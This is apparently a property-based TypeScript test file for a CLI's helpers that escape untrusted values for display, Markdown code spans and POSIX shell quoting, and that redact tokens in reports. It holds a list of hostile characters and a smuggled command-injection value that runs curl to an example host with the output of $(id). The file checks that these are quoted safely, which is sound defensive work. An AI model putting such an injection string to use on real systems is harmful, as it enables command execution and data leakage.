/**
 * How the commands show a value from their input (provider/cli/untrusted.ts), as properties over any
 * text, hostile characters made common: on one line with nothing hidden; as a code span that a CommonMark
 * renderer reads back as exactly that text and nothing else; as shell words that a POSIX shell reads back
 * as exactly those words.
 */
import { execFileSync } from "node:child_process";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import * as fc from "fast-check";
import MarkdownIt from "markdown-it";
import { afterAll, describe, expect, it, vi } from "vitest";
import {
  codeSpan,
  MAX_COMMAND,
  MAX_SHOWN,
  printable,
  shellCommand,
  stderrLine,
} from "../../../provider/cli/untrusted";
import { hookResource, stackResource, useCliFolder } from "../../helpers/cli-inputs";
import { runCli } from "../../helpers/cli-io";
import { HOOKS_TOKEN, HOST } from "../../helpers/fixtures";

const markdown = new MarkdownIt({ html: true, linkify: true });

/** What hides, reorders or breaks a line, and what Markdown and a shell make something of. */
const HOSTILE = [
  "`",
  "``",
  " ",
  "\n",
  "\r",
  "\t",
  "\u0000",
  "\u007f",
  "\u0085",
  "\u00a0",
  "\u00ad",
  "\u200b",
  "\u200d",
  "\u2028",
  "\u2029",
  "\u202e",
  "\u2066",
  "\ufeff",
  "\u{e0041}",
  "\ufe0f",
  "\ud800",
  "\udfff",
  "'",
  '"',
  "\\",
  "$",
  "$(",
  ";",
  "|",
  "&",
  "*",
  "~",
  "!",
  "#",
  "-",
  "<",
  ">",
  "[",
  "]",
  "(",
  ")",
  "@",
  "&lt;",
  "https://",
  "…",
];

/** Any text, with the hostile pieces above as likely as any other character. */
const text = fc.string({
  unit: fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: "binary", minLength: 1, maxLength: 1 })),
  maxLength: 40,
});

/** A character that no report or message may show as it is. */
const SHOWN_HIDDEN =
  /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Default_Ignorable_Code_Point}\u00a0\u2000-\u200a\u202f\u205f\u3000]/u;

const characters = (value: string) => Array.from(value).length;

describe("printable", () => {
  it("shows any text on one line, with nothing hidden, and at most MAX_SHOWN characters of it", () => {
    fc.assert(
      fc.property(fc.oneof(text, fc.string({ unit: "binary", maxLength: 400 })), (value) => {
        const shown = printable(value);
        expect(shown).not.toMatch(SHOWN_HIDDEN);
        if (characters(value) > MAX_SHOWN) {
          expect(shown.endsWith("…")).toBe(true);
          expect(
            printable(
              Array.from(value)
                .slice(0, MAX_SHOWN - 1)
                .join(""),
            ),
          ).toBe(shown.slice(0, -1));
        } else if (!SHOWN_HIDDEN.test(value)) {
          expect(shown).toBe(value);
        }
      }),
    );
  });

  it("writes each hidden character as the JavaScript escape of its code point", () => {
    expect(printable("a\nb\r\u202ec\u0000\u{e0041}\ud800")).toBe(
      "a\\u000ab\\u000d\\u202ec\\u0000\\u{e0041}\\ud800",
    );
    expect(printable("x".repeat(5), 3)).toBe("xx…");
  });
});

describe("codeSpan", () => {
  it("renders as one code span holding exactly the printable text, in a sentence of the report", () => {
    fc.assert(
      fc.property(text, (value) => {
        const tokens = markdown.parseInline(`- a ${codeSpan(value)}, b`, {})[0]!.children!;
        expect(tokens.map((t) => t.type)).toEqual(["text", "code_inline", "text"]);
        // An empty value is shown as "" rather than as nothing.
        expect(tokens[1]!.content).toBe(value === "" ? '""' : printable(value));
      }),
    );
  });

  it("keeps its fence longer than any run of backticks inside, and pads what would join it", () => {
    expect(codeSpan("plain")).toBe("`plain`");
    expect(codeSpan("a`b")).toBe("``a`b``");
    expect(codeSpan("`x`")).toBe("`` `x` ``");
    expect(codeSpan("`````")).toBe("`````` ````` ``````");
    expect(codeSpan(" a ")).toBe("`  a  `");
    expect(codeSpan("  ")).toBe("`  `");
    expect(codeSpan("")).toBe('`""`');
  });

  it("shows a long value cut at MAX_SHOWN characters, or at the length asked for", () => {
    const long = "ab".repeat(MAX_SHOWN);
    expect(codeSpan(long)).toBe(`\`${long.slice(0, MAX_SHOWN - 1)}…\``);
    expect(codeSpan(long, MAX_COMMAND)).toBe(`\`${long}\``);
  });
});

const dir = mkdtempSync(join(tmpdir(), "cli-untrusted-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/**
 * What a POSIX shell makes of `line`'s words: each printed on its own line by printf (a builtin). Were the
 * quoting wrong, no program could run (PATH leads nowhere) and a redirection would write into `dir`.
 */
const shellWords = (line: string) =>
  execFileSync("/bin/sh", ["-c", `printf '%s\\n' ${line}`], {
    cwd: dir,
    env: { PATH: join(dir, "nowhere") },
    encoding: "utf8",
  })
    .split("\n")
    .slice(0, -1);

describe("shellCommand", () => {
  it("quotes words so that a POSIX shell reads back exactly them, or gives up on a hidden character", () => {
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (words) => {
        const line = shellCommand(words);
        if (words.some((word) => SHOWN_HIDDEN.test(word))) {
          expect(line).toBeUndefined();
          return;
        }
        expect(line).toBeDefined();
        expect(shellWords(line!)).toEqual(words);
      }),
      { numRuns: 60 },
    );
  });

  it("leaves plain words as they are, quotes the others, and gives up past the length asked for", () => {
    expect(shellCommand(["pulumi", "refresh", "--stack", "dev"])).toBe("pulumi refresh --stack dev");
    expect(shellCommand(["pulumi", "state", "delete", "x'; curl https://a.example/$(id); echo '"])).toBe(
      `pulumi state delete 'x'\\''; curl https://a.example/$(id); echo '\\'''`,
    );
    expect(shellCommand(["a", "b".repeat(MAX_COMMAND)])).toBeUndefined();
    expect(shellCommand(["a", "b".repeat(8)], 10)).toBe(`a ${"b".repeat(8)}`);
    expect(shellCommand(["a", "b".repeat(9)], 10)).toBeUndefined();
  });
});

describe("stderrLine", () => {
  it("escapes hidden characters, and keeps the start and the end of a long line within its length", () => {
    fc.assert(
      fc.property(text, fc.integer({ min: 10, max: 60 }), (line, max) => {
        const shown = stderrLine(line, max);
        expect(shown).not.toMatch(SHOWN_HIDDEN);
        if (characters(line) <= max) expect(shown).toBe(printable(line, Number.POSITIVE_INFINITY));
        else
          expect(characters(shown.replace(/\\u(\{[0-9a-f]+\}|[0-9a-f]{4})/g, "?"))).toBeLessThanOrEqual(max);
      }),
    );
    const long = `start ${"x".repeat(3000)} end`;
    expect(stderrLine(long)).toMatch(/^start x+ … x+ end$/);
  });
});

describe("a value shown in a report", () => {
  const inputs = useCliFolder("cli-untrusted-review-");

  it("hides a token inside a value before the value is cut to its shown length", async () => {
    vi.stubEnv("SERVICE_API_TOKEN", HOOKS_TOKEN);
    // The token starts 10 characters before the cut at 200: cut first, its start would show.
    const endpoint = `https://${HOST}/${"a".repeat(190 - HOST.length - 9)}${HOOKS_TOKEN}`;
    const hook = hookResource("dev", "long", "u-long");
    const created = { ...hook, inputs: { ...hook.inputs, endpoint }, outputs: { ...hook.outputs, endpoint } };
    const file = inputs.writeJson("long-endpoint.json", {
      steps: [
        { op: "same", urn: stackResource("dev").urn },
        { op: "create", urn: created.urn, newState: created },
      ],
    });
    const run = await runCli(["review", file], { cwd: inputs.dir });
    expect(run.code).toBe(0);
    expect(run.stdout).toContain("[REDACTED]");
    expect(run.stdout).not.toContain(HOOKS_TOKEN.slice(0, 8));
  });
});
